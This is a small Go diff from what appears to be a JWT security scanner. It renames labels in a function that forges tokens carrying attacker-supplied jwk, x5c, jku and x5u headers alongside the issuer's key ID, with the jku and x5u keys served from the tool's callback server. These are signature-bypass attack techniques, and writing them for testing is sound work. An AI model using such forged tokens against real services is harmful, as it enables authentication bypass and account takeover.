@@ -175,10 +175,10 @@ func keysBesideKid(f forgery) []disguise {
 	jwk, _ := forge.AttackerJWK(header.Kid)
 	der, _ := forge.AttackerCertificate()
 	return []disguise{
-		f.signed("jwk beside the issuer's kid", f.baselineToken.token.WithHeader("jwk", jwk)),
-		f.signed("x5c beside the issuer's kid", f.baselineToken.token.WithHeader("x5c", []string{base64.StdEncoding.EncodeToString(der)})),
-		f.served(f.signed("jku beside the issuer's kid", f.baselineToken.token.WithHeader("jku", f.callbacks.origin+f.own+"/jku/keys.json")), "/jku/keys.json"),
-		f.served(f.signed("x5u beside the issuer's kid", f.baselineToken.token.WithHeader("x5u", f.callbacks.origin+f.own+"/x5u/chain.pem")), "/x5u/chain.pem"),
+		f.signed("jwk with the issuer's kid", f.baselineToken.token.WithHeader("jwk", jwk)),
+		f.signed("x5c with the issuer's kid", f.baselineToken.token.WithHeader("x5c", []string{base64.StdEncoding.EncodeToString(der)})),
+		f.served(f.signed("jku with the issuer's kid", f.baselineToken.token.WithHeader("jku", f.callbacks.origin+f.own+"/jku/keys.json")), "/jku/keys.json"),
+		f.served(f.signed("x5u with the issuer's kid", f.baselineToken.token.WithHeader("x5u", f.callbacks.origin+f.own+"/x5u/chain.pem")), "/x5u/chain.pem"),
 	}
 }
 
